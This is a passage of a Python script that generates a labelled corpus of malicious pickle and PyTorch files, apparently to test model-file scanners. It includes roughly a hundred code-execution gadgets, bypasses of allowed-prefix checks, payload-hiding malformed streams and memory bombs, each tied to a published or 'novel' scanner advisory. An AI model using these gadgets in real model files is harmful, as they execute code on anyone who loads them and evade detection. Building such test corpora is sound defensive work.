            "timeit.timeit compiles and runs its statement",
            "picklescan GHSA-v7x6-rv5q-mhwc",
        ),
        (
            "timeit_timer",
            _method("timeit", "Timer", "timeit", (PYSRC,), 1),
            "timeit.Timer(stmt).timeit(1) via dotted method",
            "picklescan GHSA-v7x6-rv5q-mhwc",
        ),
        (
            "cprofile_run",
            _gadget("cProfile", "run", PYSRC),
            "cProfile.run(exec)",
            "fickling GHSA-p523-jq9w-64x9",
        ),
        (
            "cprofile_runctx",
            _gadget("cProfile", "runctx", PYSRC, {}, {}),
            "cProfile.runctx",
            "fickling GHSA-p523-jq9w-64x9",
        ),
        (
            "profile_run",
            _gadget("profile", "run", PYSRC),
            "profile.run",
            "picklescan GHSA-46h3-79wf-xr6c",
        ),
        (
            "pkgutil_resolve_name",
            pk(call(call(sg("pkgutil", "resolve_name"), "os:system"), CMD)),
            "pkgutil.resolve_name('os:system') then call",
            "picklescan GHSA-vvpj-8cmc-gx39",
        ),
        (
            "operator_methodcaller",
            pk(call(call(sg("operator", "methodcaller"), "system", CMD), imp)),
            "operator.methodcaller('system','true')(importlib.import_module('os'))",
            "picklescan GHSA-m273-6v24-x4m4",
        ),
        (
            "_operator_attrgetter",
            pk(
                call(
                    call(
                        call(sg("_operator", "attrgetter"), "system"),
                        Raw(call(sg("builtins", "__import__"), "os")),
                    ),
                    CMD,
                )
            ),
            "_operator.attrgetter('system')(__import__('os'))('true')",
            "picklescan GHSA-955r-x9j8-7rhh",
        ),
        (
            "operator_itemgetter_sysmodules",
            pk(
                call(
                    call(
                        sg("builtins", "getattr"),
                        Raw(
                            call(
                                call(sg("operator", "itemgetter"), "os"), Raw(sg("sys", "modules"))
                            )
                        ),
                        "system",
                    ),
                    CMD,
                )
            ),
            "operator.itemgetter('os')(sys.modules) then getattr",
            "picklescan _unsafe_globals operator",
        ),
        (
            "functools_partial_wrapper",
            pk(
                call(
                    call(
                        sg("functools", "partial"),
                        Raw(sg("numpy.testing._private.utils", "runstring")),
                        PYSRC,
                        {},
                    )
                )
            ),
            "functools.partial wrapping the runstring gadget, called with no arguments",
            "fickling PR #210 (functools.partial)",
        ),
        (
            "importlib_import_module_getattr",
            pk(call(call(sg("builtins", "getattr"), Raw(imp), "system"), CMD)),
            "getattr(importlib.import_module('os'), 'system')('true')",
            "fickling GHSA-q5qq-mvfm-j35x; picklescan#66",
        ),
        (
            "builtins_import_vars_getitem",
            pk(
                call(
                    call(
                        sg("_operator", "getitem"),
                        Raw(
                            call(
                                sg("builtins", "vars"),
                                Raw(call(sg("builtins", "__import__"), "os")),
                            )
                        ),
                        "system",
                    ),
                    CMD,
                )
            ),
            "vars(__import__('os'))['system'] via _operator.getitem: no getattr, no os global",
            "novel",
        ),
        (
            "getattr_chain_builtins_module",
            pk(
                call(
                    call(
                        sg("builtins", "getattr"),
                        Raw(
                            call(sg("builtins", "getattr"), Raw(sg("torch", "serialization")), "os")
                        ),
                        "system",
                    ),
                    CMD,
                )
            ),
            "getattr(getattr(torch.serialization, 'os'), 'system') chain",
            "novel",
        ),
        (
            "code_interactive_interpreter",
            _method("code", "InteractiveInterpreter", "runsource", (), PYSRC),
            "code.InteractiveInterpreter().runsource",
            "fickling GHSA-q5qq-mvfm-j35x",
        ),
        (
            "code_interactive_console_push",
            _method("code", "InteractiveConsole", "push", (), PYSRC),
            "code.InteractiveConsole().push",
            "picklescan code.InteractiveInterpreter.runcode",
        ),
        (
            "runpy_run_path",
            _gadget("runpy", "run_path", "/tmp/bastion-corpus-absent.py"),
            "runpy.run_path",
            "fickling GHSA-wfq2-52f7-7qvj",
        ),
        (
            "runpy_run_code",
            _gadget(
                "runpy", "_run_code", Raw(call(sg("builtins", "compile"), PYSRC, "<s>", "exec")), {}
            ),
            "runpy._run_code(compile(...), {})",
            "picklescan _unsafe_globals runpy",
        ),
        ("pty_spawn", _gadget("pty", "spawn", CMD), "pty.spawn", "fickling GHSA-r7v6-mfhq-g3m2"),
        ("subprocess_popen", _gadget("subprocess", "Popen", [CMD]), "subprocess.Popen", "classic"),
        ("subprocess_run", _gadget("subprocess", "run", [CMD]), "subprocess.run", "classic"),
        ("os_popen", _gadget("os", "popen", CMD), "os.popen", "classic"),
        ("os_spawnlp", _gadget("os", "spawnlp", 0, CMD, CMD), "os.spawnlp", "classic"),
        ("os_execv", _gadget("os", "execv", "/bin/true", ["true"]), "os.execv", "classic"),
        (
            "posixsubprocess_fork_exec",
            _gadget("_posixsubprocess", "fork_exec", [b"/bin/true"]),
            "_posixsubprocess.fork_exec",
            "fickling UNSAFE_IMPORTS _posixsubprocess",
        ),
        (
            "builtins_compile_exec",
            pk(
                call(
                    sg("builtins", "exec"),
                    Raw(call(sg("builtins", "compile"), PYSRC, "<s>", "exec")),
                )
            ),
            "builtins.exec(builtins.compile(...))",
            "classic",
        ),
        (
            "builtins_breakpoint",
            _gadget("builtins", "breakpoint"),
            "builtins.breakpoint (debugger)",
            "picklescan",
        ),
        (
            "builtins_open_write",
            pk(
                call(
                    call(
                        sg("builtins", "getattr"),
                        Raw(call(sg("builtins", "open"), "/tmp/bastion-corpus", "w")),
                        "write",
                    ),
                    "x",
                )
            ),
            "builtins.open(path, 'w').write",
            "picklescan",
        ),
        (
            "io_fileio",
            _gadget("_io", "FileIO", "/tmp/bastion-corpus", "w"),
            "_io.FileIO file write",
            "picklescan _unsafe_globals _io.FileIO",
        ),
        (
            "logging_filehandler",
            _gadget("logging", "FileHandler", "/tmp/bastion-corpus"),
            "logging.FileHandler creates files",
            "CVE-2026-56304 / picklescan",
        ),
        (
            "logging_config_dictconfig",
            _gadget(
                "logging.config",
                "dictConfig",
                {
                    "version": 1,
                    "handlers": {"h": {"()": "os.system", "command": CMD}},
                    "root": {"handlers": ["h"]},
                },
            ),
            "logging.config.dictConfig with a '()' factory naming os.system (name hidden in data)",
            "novel",
        ),
        (
            "webbrowser_open",
            _gadget("webbrowser", "open", "http://127.0.0.1:9/"),
            "webbrowser.open",
            "picklescan",
        ),
        (
            "socket_create_connection",
            _gadget("socket", "create_connection", ("127.0.0.1", 9)),
            "socket.create_connection",
            "picklescan",
        ),
        (
            "ssl_get_server_certificate",
            _gadget("ssl", "get_server_certificate", ("127.0.0.1", 9)),
            "ssl.get_server_certificate (DNS/network exfiltration)",
            "picklescan GHSA-hgrh-qx5j-jfwx",
        ),
        (
            "urllib_urlopen",
            _gadget("urllib.request", "urlopen", "http://127.0.0.1:9/x"),
            "urllib.request.urlopen (SSRF, exfiltration)",
            "picklescan",
        ),
        (
            "http_client_connection",
            _method("http.client", "HTTPConnection", "request", ("127.0.0.1", 9), "GET", "/"),
            "http.client.HTTPConnection(...).request",
            "picklescan GHSA-hgrh-qx5j-jfwx",
        ),
        (
            "requests_get",
            _gadget("requests.api", "get", "http://127.0.0.1:9/"),
            "requests.api.get",
            "picklescan",
        ),
        (
            "ftplib_ftp",
            _gadget("ftplib", "FTP", "127.0.0.1"),
            "ftplib.FTP network connection",
            "fickling",
        ),
        (
            "ctypes_cdll_system",
            pk(
                call(
                    call(
                        sg("builtins", "getattr"),
                        Raw(call(sg("ctypes", "CDLL"), "libc.so.6")),
                        "system",
                    ),
                    b"true",
                )
            ),
            "ctypes.CDLL('libc.so.6').system",
            "fickling GHSA-5hvc-6wx8-mvv4",
        ),
        (
            "numpy_ctypeslib_load_library",
            _gadget("numpy.ctypeslib", "load_library", "libc", "/lib"),
            "numpy.ctypeslib.load_library loads a shared library",
            "novel",
        ),
        (
            "pip_main",
            _gadget("pip", "main", ["install", "bastion-corpus-absent"]),
            "pip.main install",
            "CVE-2025-1716 (picklescan GHSA-655q-fx9r-782v)",
        ),
        (
            "ensurepip_run_pip",
            _gadget("ensurepip", "_run_pip", ["--version"]),
            "ensurepip._run_pip",
            "picklescan GHSA-xp4f-hrf8-rxw7",
        ),
        (
            "venv_create",
            _gadget("venv", "create", "/tmp/bastion-corpus-venv"),
            "venv.create",
            "picklescan GHSA-vqmv-47xg-9wpr",
        ),
        (
            "pydoc_locate",
            pk(call(call(sg("pydoc", "locate"), "os.system"), CMD)),
            "pydoc.locate('os.system') then call",
            "fickling GHSA-5hvc-6wx8-mvv4",
        ),
        (
            "pydoc_pipepager",
            _gadget("pydoc", "pipepager", "text", CMD),
            "pydoc.pipepager runs a shell command",
            "picklescan _unsafe_globals pydoc",
        ),
        (
            "doctest_debug_script",
            _gadget("doctest", "debug_script", PYSRC),
            "doctest.debug_script",
            "picklescan GHSA-4675-36f9-wf6r",
        ),
        (
            "trace_runctx",
            _method("trace", "Trace", "runctx", (), PYSRC, {}, {}),
            "trace.Trace().runctx",
            "picklescan GHSA-4675-36f9-wf6r",
        ),
        ("bdb_run", _method("bdb", "Bdb", "run", (), PYSRC), "bdb.Bdb().run", "picklescan PR #29"),
        ("pdb_run", _gadget("pdb", "run", PYSRC), "pdb.run", "picklescan PR #29"),
        (
            "idlelib_executive_runcode",
            _gadget("idlelib.run", "Executive.runcode", None, PYSRC),
            "idlelib.run.Executive.runcode",
            "picklescan GHSA-r8g5-cgf2-4m4m",
        ),
        (
            "lib2to3_grammar_loads",
            _method("lib2to3.pgen2.grammar", "Grammar", "loads", (), nested),
            "lib2to3 Grammar.loads unpickles attacker bytes",
            "picklescan GHSA-r8g5-cgf2-4m4m",
        ),
        (
            "imaplib_imap4_stream",
            _gadget("imaplib", "IMAP4_stream", CMD),
            "imaplib.IMAP4_stream (shell)",
            "CVE-2026-56315 (picklescan < 1.0.4)",
        ),
        (
            "uuid_get_command_stdout",
            _gadget("uuid", "_get_command_stdout", CMD),
            "uuid._get_command_stdout",
            "CVE-2026-56315",
        ),
        (
            "osx_support_read_output",
            _gadget("_osx_support", "_read_output", CMD),
            "_osx_support._read_output",
            "CVE-2026-56315",
        ),
        (
            "aix_support_read_cmd_output",
            _gadget("_aix_support", "_read_cmd_output", CMD),
            "_aix_support._read_cmd_output",
            "CVE-2026-56315",
        ),
        (
            "pyrepl_pipe_pager",
            _gadget("_pyrepl.pager", "pipe_pager", "text", CMD),
            "_pyrepl.pager.pipe_pager (Python 3.13)",
            "CVE-2026-56315",
        ),
        (
            "distutils_write_file",
            _gadget("distutils.file_util", "write_file", "/tmp/bastion-corpus", ["x"]),
            "distutils.file_util.write_file",
            "CVE-2025-10155 / fickling PR #210",
        ),
        (
            "shutil_rmtree",
            _gadget("shutil", "rmtree", "/tmp/bastion-corpus-absent"),
            "shutil.rmtree",
            "picklescan PR #29",
        ),
        (
            "mailcap_findmatch",
            _gadget(
                "mailcap", "findmatch", {"text/plain": [{"view": CMD, "test": CMD}]}, "text/plain"
            ),
            "mailcap.findmatch runs the entry's test command",
            "modelscan PR #346",
        ),
        (
            "multiprocessing_spawnv_passfds",
            _gadget(
                "multiprocessing.util",
                "spawnv_passfds",
                b"/bin/sh",
                [b"/bin/sh", b"-c", b"true"],
                (),
            ),
            "multiprocessing.util.spawnv_passfds",
            "fickling GHSA-q5qq-mvfm-j35x; modelscan#338",
        ),
        (
            "asyncio_unix_subprocess_transport",
            _gadget(
                "asyncio.unix_events",
                "_UnixSubprocessTransport",
                None,
                CMD,
                True,
                None,
                None,
                None,
                0,
            ),
            "asyncio.unix_events._UnixSubprocessTransport (submodule of a blocked module)",
            "CVE-2025-10157",
        ),
        (
            "site_addsitedir",
            _gadget("site", "addsitedir", "/tmp/bastion-corpus-site"),
            "site.addsitedir executes .pth files found there",
            "novel",
        ),
        (
            "zipimport_load_module",
            _method("zipimport", "zipimporter", "load_module", ("/tmp/bastion-corpus.zip",), "m"),
            "zipimport.zipimporter(path).load_module",
            "fickling UNSAFE_IMPORTS zipimport",
        ),
        (
            "importlib_source_loader",
            _method(
                "importlib.machinery",
                "SourceFileLoader",
                "load_module",
                ("m", "/tmp/bastion-corpus.py"),
            ),
            "importlib.machinery.SourceFileLoader(...).load_module",
            "picklescan#66",
        ),
        (
            "cloudpickle_subimport",
            pk(
                call(
                    call(
                        sg("builtins", "getattr"),
                        Raw(call(sg("cloudpickle.cloudpickle", "subimport"), "os")),
                        "system",
                    ),
                    CMD,
                )
            ),
            "cloudpickle.cloudpickle.subimport('os')",
            "picklescan _unsafe_globals cloudpickle",
        ),
        (
            "types_codetype_functiontype",
            pk(
                call(
                    call(
                        sg("types", "FunctionType"),
                        Raw(
                            call(
                                sg("marshal", "loads"),
                                marshal.dumps(compile(PYSRC, "<corpus>", "exec")),
                            )
                        ),
                        {},
                    )
                )
            ),
            "types.FunctionType(marshal.loads(...), {})()",
            "fickling GHSA-565g-hwwr-4pp3; picklescan PR #74",
        ),
        (
            "pickle_loads_nested",
            _gadget("pickle", "loads", nested),
            "pickle.loads of a nested payload",
            "modelscan#267; picklescan GHSA-84r2-jw7c-4r5q",
        ),
        (
            "_pickle_loads_nested",
            _gadget("_pickle", "loads", nested),
            "_pickle.loads nested",
            "modelscan PR #270",
        ),
        (
            "base64_pickle_loads",
            pk(
                call(
                    sg("pickle", "loads"),
                    Raw(call(sg("base64", "b64decode"), base64.b64encode(nested))),
                )
            ),
            "pickle.loads(base64.b64decode(...)): the nested payload is encoded",
            "novel",
        ),
        (
            "joblib_load_nested",
            _gadget("joblib", "load", "/tmp/bastion-corpus.joblib"),
            "joblib.load of another file",
            "fickling UNSAFE_IMPORTS joblib",
        ),
        (
            "pandas_read_pickle",
            _gadget("pandas", "read_pickle", "/tmp/bastion-corpus.pkl"),
            "pandas.read_pickle of another file",
            "picklescan TODO list",
        ),
        (
            "pandas_read_csv_exfil",
            _gadget("pandas.io.parsers.readers", "read_csv", "http://127.0.0.1:9/?x=1"),
            "pandas read_csv of a URL (exfiltration)",
            "modelscan#338",
        ),
        (
            "mlflow_run_entry_point",
            _gadget("mlflow.projects.backend.local", "_run_entry_point", CMD, ".", "", ""),
            "mlflow _run_entry_point (shell)",
            "modelscan#338",
        ),
        (
            "numpy_load_pickle",
            _gadget("numpy", "load", "/tmp/bastion-corpus.npy", None, True),
            "numpy.load(allow_pickle=True) of another file",
            "picklescan TODO list",
        ),
        (
            "numpy_f2py_getlincoef",
            _gadget("numpy.f2py.crackfortran", "getlincoef", "__import__('os').system('true')", {}),
            "numpy.f2py.crackfortran.getlincoef evals its argument",
            "picklescan _unsafe_globals numpy.f2py",
        ),
        (
            "numpy_distutils_exec_command",
            _gadget("numpy.distutils.exec_command", "exec_command", CMD),
            "numpy.distutils.exec_command",
            "fickling UnsafeImportsML numpy.distutils",
        ),
        (
            "torch_load_nested",
            _partial_kw(sg("torch", "load"), ("/tmp/bastion-corpus.pt",), {"weights_only": False}),
            "torch.load of another file",
            "fickling UnsafeImportsML torch.load",
        ),
        (
            "torch_serialization_load",
            _gadget("torch.serialization", "load", "/tmp/bastion-corpus.pt"),
            "torch.serialization.load",
            "picklescan _unsafe_globals torch.serialization",
        ),
        (
            "torch_storage_load_from_bytes",
            _gadget("torch.storage", "_load_from_bytes", torch_nested),
            "torch.storage._load_from_bytes of an embedded malicious checkpoint",
            "fickling UnsafeImportsML",
        ),
        (
            "torch_hub_load",
            _gadget("torch.hub", "load", "attacker/repo", "model"),
            "torch.hub.load runs hubconf.py",
            "fickling UnsafeImportsML torch.hub",
        ),
        (
            "torch_cpp_extension_load_inline",
            _gadget("torch.utils.cpp_extension", "load_inline", "m", "int x = 0;"),
            "torch.utils.cpp_extension.load_inline compiles and loads native code",
            "novel",
        ),
        (
            "torch_jit_execwrapper",
            _gadget("torch.jit.unsupported_tensor_ops", "execWrapper", PYSRC, {}, {}),
            "torch.jit.unsupported_tensor_ops.execWrapper",
            "picklescan GHSA-3329-ghmp-jmv5",
        ),
        (
            "torch_inductor_compile_file",
            _gadget("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", CMD]),
            "torch._inductor.codecache.compile_file runs a command",
            "picklescan _unsafe_globals",
        ),
        (
            "torch_dynamo_guardbuilder_get",
            _gadget(
                "torch._dynamo.guards", "GuardBuilder.get", None, "__import__('os').system('true')"
            ),
            "torch._dynamo.guards.GuardBuilder.get evals",
            "modelscan PR #313",
        ),
        (
            "torch_fx_evaluate_guards",
            _gadget(
                "torch.fx.experimental.symbolic_shapes",
                "ShapeEnv.evaluate_guards_expression",
                None,
                "__import__('os').system('true')",
                [],
            ),
            "ShapeEnv.evaluate_guards_expression evals",
            "modelscan PR #313",
        ),
        (
            "torch_config_module_load_config",
            _gadget("torch.utils._config_module", "ConfigModule.load_config", None, nested),
            "torch ConfigModule.load_config unpickles bytes",
            "picklescan _unsafe_globals",
        ),
        (
            "torch_bottleneck_run_cprofile",
            _gadget("torch.utils.bottleneck.__main__", "run_cprofile", PYSRC, {}),
            "torch.utils.bottleneck run_cprofile",
            "picklescan _unsafe_globals",
        ),
        (
            "torch_datapipes_basichandlers",
            _gadget("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", nested),
            "torch datapipes decoder basichandlers('pickle', bytes) unpickles",
            "picklescan _unsafe_globals",
        ),
        (
            "torch_rebuild_from_type_v2",
            _gadget(
                "torch._tensor",
                "_rebuild_from_type_v2",
                Raw(sg("os", "system")),
                Raw(sg("torch", "Tensor")),
                (CMD,),
                {},
            ),
            "torch._tensor._rebuild_from_type_v2 calls its func argument",
            "novel",
        ),
        (
            "thirdparty_pymongo_client",
            pk(call(g("pymongo", "MongoClient"), "mongodb://127.0.0.1:9/"), 2),
            "pymongo.MongoClient(url): opens a network connection at load (value-call shape)",
            "novel",
        ),
        (
            "thirdparty_pandas_hdfstore",
            pk(call(g("pandas", "HDFStore"), "/tmp/bastion-corpus.h5"), 2),
            "pandas.HDFStore(path): creates/opens a file at load (value-call shape)",
            "novel",
        ),
    ]
    for name, data, technique, ref in gadgets:
        c.bad(f"gadget/{name}.pkl", data, cls, technique, ref)


# ---- dangerous names under allowed prefixes ---------------------------------------------------


def _pickle_prefixes(c: Corpus) -> None:
    cls = "pickle-prefix"
    items: list[tuple[str, bytes, str, str]] = [
        (
            "torch_serialization_os_system",
            pk(call(sg("torch.serialization", "os.system"), CMD)),
            "torch.serialization + dotted name os.system",
            "issue brief; modelscan#89",
        ),
        (
            "torch_dotted_serialization_os",
            pk(call(sg("torch", "serialization.os.system"), CMD)),
            "torch + serialization.os.system",
            "novel",
        ),
        (
            "torch_utils_import_dotted_name",
            pk(call(call(sg("torch._utils", "_import_dotted_name"), "os.system"), CMD)),
            "torch._utils._import_dotted_name('os.system') under the torch._utils prefix",
            "novel",
        ),
        (
            "torch_utils_importlib",
            pk(
                call(
                    call(
                        sg("builtins", "getattr"),
                        Raw(call(sg("torch._utils", "importlib.import_module"), "os")),
                        "system",
                    ),
                    CMD,
                )
            ),
            "torch._utils.importlib.import_module",
            "novel",
        ),
        (
            "numpy_builtins_dict_get",
            proto(5)
            + g("builtins", "dict.get")
            + g("numpy", "__builtins__")
            + text_unicode("exec")
            + TUPLE2
            + REDUCE
            + text_unicode(PYSRC)
            + TUPLE1
            + REDUCE
            + STOP,
            "dict.get(numpy.__builtins__, 'exec')",
            "modelscan#89",
        ),
        (
            "numpy_core_internal_sys_modules",
            proto(5)
            + g("numpy", "prod")
            + NONE
            + g("numpy", "_core._internal.sys.modules")
            + TUPLE2
            + BUILD
            + POP
            + g("numpy", "prod.os.system")
            + text_unicode(CMD)
            + TUPLE1
            + REDUCE
            + STOP,
            "BUILD numpy.prod.__dict__ = sys.modules (reached through numpy._core._internal.sys), "
            "then numpy prod.os.system",
            "modelscan#89",
        ),
        (
            "numpy_size_builtins_build",
            pk(
                sg("numpy", "size")
                + MEMOIZE
                + sg("numpy", "__builtins__")
                + MEMOIZE
                + binget(0)
                + EMPTY_DICT
                + enc({"shape": Raw(binget(1))})
                + TUPLE2
                + BUILD
                + POP
                + binget(0)
                + binget(0)
                + enc("eval")
                + TUPLE2
                + REDUCE
                + enc((PYSRC,))
                + REDUCE
            ),
            "numpy.size BUILD with numpy.__builtins__ then eval",
            "modelscan#330",
        ),
        (
            "numpy_testing_runstring_dotted",
            pk(call(sg("numpy", "testing._private.utils.runstring"), PYSRC, {})),
            "numpy + testing._private.utils.runstring",
            "novel",
        ),
        (
            "collections_sys_modules_os",
            pk(
                call(
                    call(
                        sg("builtins", "getattr"),
                        Raw(
                            call(
                                sg("builtins", "dict.get"),
                                Raw(sg("collections", "_sys.modules")),
                                "os",
                            )
                        ),
                        "system",
                    ),
                    CMD,
                )
            ),
            "collections._sys.modules['os'] via dict.get",
            "novel",
        ),
        (
            "torch_nn_module_torch_load",
            _partial_kw(
                sg("torch.nn.modules.module", "torch.load"),
                ("/tmp/bastion-corpus.pt",),
                {"weights_only": False},
            ),
            "torch.nn.modules.module + torch.load (dotted)",
            "novel",
        ),
        (
            "torch_serialization_pickle_loads",
            pk(call(sg("torch.serialization", "pickle.loads"), pk(system_call("stack")))),
            "torch.serialization.pickle.loads nested payload",
            "novel",
        ),
        (
            "torch_utils_builtins_dict_get",
            pk(
                call(
                    call(
                        sg("builtins", "dict.get"), Raw(sg("torch._utils", "__builtins__")), "exec"
                    ),
                    PYSRC,
                )
            ),
            "torch._utils.__builtins__['exec'] via dict.get",
            "novel",
        ),
    ]
    for name, data, technique, ref in items:
        c.bad(f"prefix/{name}.pkl", data, cls, technique, ref)


# ---- malformed streams ------------------------------------------------------------------------


def _pickle_streams(c: Corpus) -> None:
    cls = "pickle-stream"
    payload = bytes(system_call("stack"))
    benign = pk(enc({"lr": 0.01, "epochs": 3}), 2)
    garbage = bytes((i * 37 + 11) % 256 for i in range(512))
    c.bad(
        "stream/concat_benign_then_malicious.pkl",
        benign + pk(payload, 4),
        cls,
        "two pickles back to back: a benign one, then the payload (loaders that call load() "
        "repeatedly, like torch legacy, run both)",
        "picklescan multiple_pickles",
    )
    c.bad(
        "stream/concat_three_payload_last.pkl",
        benign + pk(enc([1, 2, 3]), 2) + pk(payload, 4),
        cls,
        "three pickles, payload in the third",
    )
    c.bad(
        "stream/trailing_garbage.pkl",
        pk(payload) + garbage,
        cls,
        "payload pickle followed by trailing garbage",
    )
    c.bad(
        "stream/missing_stop.pkl",
        proto(4) + payload,
        cls,
        "payload with no STOP: REDUCE has run before the loader hits EOF",
    )
    c.bad(
        "stream/truncated_after_payload.pkl",
        proto(4) + payload + POP + b"X\xff\xff\x00\x00abc",
        cls,
        "payload then a BINUNICODE whose length runs past the end of the file",
    )
    c.bad(
        "stream/invalid_opcode_after_payload.pkl",
        proto(4) + payload + b"\xff\xfe" + STOP,
        cls,
        "payload then an invalid opcode: the parser errors after the code ran",
        "picklescan GHSA-9gvj-pp9x-gcfr",
    )
    c.bad(
        "stream/invalid_stream_no_payload.pkl",
        proto(5) + b"\xff" + garbage,
        cls,
        "PROTO 5 then garbage: not a pickle anyone can load; must fail closed",
    )
    c.bad(
        "stream/payload_then_truncated_state_dict.pkl",
        inject_after_proto(pickle.dumps({"w": list(range(64))}, protocol=2), payload)[:-40],
        cls,
        "payload first, then a state dict cut short (nullifAI's broken pickle shape)",
        "ReversingLabs nullifAI (2025)",
    )
    c.bad(
        "stream/frame_length_lie.pkl",
        proto(4) + b"\x95" + struct.pack("<Q", 1 << 20) + payload + STOP,
        cls,
        "FRAME declares 1 MiB but the file is short; payload inside the frame",
    )
    c.bad(
        "stream/duplicate_proto_midstream.pkl",
        proto(4) + enc(1) + POP + proto(2) + payload + STOP,
        cls,
        "a second PROTO opcode mid-stream switches protocol before the payload",
        "fickling DuplicateProtoAnalysis",
    )
    c.bad(
        "stream/unbalanced_mark.pkl",
        proto(4) + payload + MARK + STOP,
        cls,
        "payload then a dangling MARK",
    )
    c.bad(
        "stream/extra_stack_items.pkl",
        proto(4) + payload + enc({"w": 1}) + STOP,
        cls,
        "payload left on the stack under the real result (no POP)",
        "fickling --inject default",
    )
    c.bad(
        "stream/payload_in_second_of_many.pkl",
        b"".join(pk(enc(i), 2) for i in range(8)) + pk(payload, 4) + pk(enc("end"), 2),
        cls,
        "payload in the ninth of ten concatenated pickles",
    )


# ---- expansion and resource bombs -------------------------------------------------------------


def _pickle_bombs(c: Corpus) -> None:
    cls = "pickle-bomb"
    body = bytearray(proto(4) + EMPTY_LIST + MEMOIZE)
    for level in range(1, 41):
        body += EMPTY_LIST + MARK + long_binget(level - 1) * 10 + APPENDS + MEMOIZE
    c.bad(
        "bomb/billion_laughs_list.pkl",
        bytes(body) + STOP,
        cls,
        "40 levels of lists holding 10 references to the level below: 10**40 elements",
        "fickling#111; pickle-fuzz billion laughs",
    )
    body = bytearray(proto(4) + enc("lol" * 10) + MEMOIZE)
    for level in range(1, 31):
        body += EMPTY_DICT + MARK
        for k in range(8):
            body += enc(f"k{k}") + long_binget(level - 1)
        body += SETITEMS + MEMOIZE
    c.bad(
        "bomb/billion_laughs_dict.pkl",
        bytes(body) + STOP,
        cls,
        "30 levels of dicts holding 8 references each",
        "fickling#111",
    )
    body = bytearray(proto(4) + EMPTY_LIST + MARK)
    for _ in range(20000):
        body += b"ccollections\nOrderedDict\n"
    c.bad(
        "bomb/global_laughs.pkl",
        bytes(body) + APPENDS + STOP,
        cls,
        "20,000 GLOBAL opcodes in one list (cheap for pickle, heavy for AST-building scanners)",
        "fickling#111 (globalLaughs.pt)",
    )
    c.bad(
        "bomb/memo_index_huge.pkl",
        proto(4) + enc(1) + long_binput(0x7FFFFFF0) + STOP,
        cls,
        "LONG_BINPUT 0x7FFFFFF0: the C unpickler grows its memo array to that index",
    )
    c.bad(
        "bomb/binbytes8_huge_length.pkl",
        proto(5) + b"\x8e" + struct.pack("<Q", 1 << 62) + b"x" + STOP,
        cls,
        "BINBYTES8 declares 2**62 bytes",
    )
    c.bad(
        "bomb/frame_huge.pkl",
        proto(4) + b"\x95" + struct.pack("<Q", (1 << 62) - 1) + enc(1) + STOP,
        cls,
        "FRAME declares ~2**62 bytes",
    )
    c.bad(
        "bomb/bytes_allocation.pkl",
        pk(call(sg("builtins", "bytes"), 1 << 40)),
        cls,
        "builtins.bytes(2**40): a 1 TiB allocation at load time",
    )
    c.bad(
        "bomb/bytearray_allocation.pkl",
        pk(call(sg("builtins", "bytearray"), 1 << 40)),
        cls,
        "builtins.bytearray(2**40): a 1 TiB allocation at load time",
    )
    c.bad(
        "bomb/deep_nesting.pkl",
        proto(4) + EMPTY_LIST * 100000 + APPEND * 99999 + STOP,
        cls,
        "100,000 nested lists: recursion in any scanner or printer that walks the result",
        "fickling#196 (recursion)",
    )


# ---- PyTorch zip checkpoints ------------------------------------------------------------------


def _torch() -> Any:
    import torch

    return torch


def torch_save(obj: Any, *, filename: str | None = None, legacy: bool = False) -> bytes:
    """Bytes of ``torch.save(obj)``; ``filename`` sets the zip's top folder as torch does."""
    torch = _torch()
    if filename is None:
        buf = io.BytesIO()
        torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
        return _stable_legacy_keys(buf.getvalue()) if legacy else buf.getvalue()
    with tempfile.TemporaryDirectory() as tmp:
        target = Path(tmp) / filename
        torch.save(obj, target, _use_new_zipfile_serialization=not legacy)
        return target.read_bytes()


def _stable_legacy_keys(data: bytes) -> bytes:
    """Make a legacy checkpoint reproducible.

    Legacy checkpoints key storages by memory address and write the raw storages sorted by
    key, so both the keys and the data order change from run to run. Rename the keys by first
    use in the main pickle and reorder the raw storages to match. Static walk only.
    """
    import pickletools

    torch = _torch()
    parts, rest = _split_pickles(data, 5)
    strings = ("BINUNICODE", "SHORT_BINUNICODE", "UNICODE")
    old_sorted = [a for op, a, _ in pickletools.genops(parts[4]) if op.name in strings]
    wanted = set(old_sorted)
    order: list[str] = []
    elsize: dict[str, int] = {}
    memo: dict[int, int] = {}
    last: int | None = None
    current: int | None = None
    for op, arg, _ in pickletools.genops(parts[3]):
        if (
            op.name == "GLOBAL"
            and isinstance(arg, str)
            and arg.startswith("torch ")
            and arg.endswith("Storage")
        ):
            current = torch._utils._element_size(getattr(torch, arg.split()[1]).dtype)
            last = current
            continue
        if op.name in ("BINPUT", "LONG_BINPUT", "PUT") and last is not None:
            memo[int(arg)] = last
        elif op.name in ("BINGET", "LONG_BINGET", "GET") and int(arg) in memo:
            current = memo[int(arg)]
        elif op.name in strings and arg in wanted and current is not None:
            if arg not in elsize:
                order.append(arg)
                elsize[arg] = current
            current = None
        last = None
    assert sorted(order) == sorted(old_sorted)
    sections: dict[str, bytes] = {}
    pos = 0
    for key in old_sorted:
        numel = struct.unpack("<q", rest[pos : pos + 8])[0]
        size = 8 + numel * elsize[key]
        sections[key] = rest[pos : pos + size]
        pos += size
    assert pos == len(rest)
    mapping = {old: f"s{i:05d}" for i, old in enumerate(order)}

    def rename(chunk: bytes) -> bytes:
        for old, new in mapping.items():
            raw_old, raw_new = old.encode(), new.encode()
            chunk = chunk.replace(
                b"X" + struct.pack("<I", len(raw_old)) + raw_old,
                b"X" + struct.pack("<I", len(raw_new)) + raw_new,
            )
        return chunk

    new_keys = pickle.dumps([mapping[k] for k in order], protocol=2)
    return b"".join(rename(p) for p in parts[:4]) + new_keys + b"".join(sections[k] for k in order)


def zip_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


_BASE_TORCH: list[tuple[str, bytes]] = []


def _base_torch_members() -> list[tuple[str, bytes]]:
    if not _BASE_TORCH:
        torch = _torch()
        _BASE_TORCH.extend(zip_members(torch_save({"weight": torch.zeros(2, 2)})))
    return list(_BASE_TORCH)


def _torch_zip_members(
    data_pkl: bytes, *, top: str = "archive", extra: Sequence[tuple[str, bytes]] = ()
) -> list[tuple[str, bytes]]:
    out = []
    for name, data in _base_torch_members():
        rel = name.split("/", 1)[1]
        out.append((f"{top}/{rel}", data_pkl if rel == "data.pkl" else data))
    out.extend((f"{top}/{rel}", data) for rel, data in extra)
    return out


def _torch_zip(
    data_pkl: bytes,
    *,
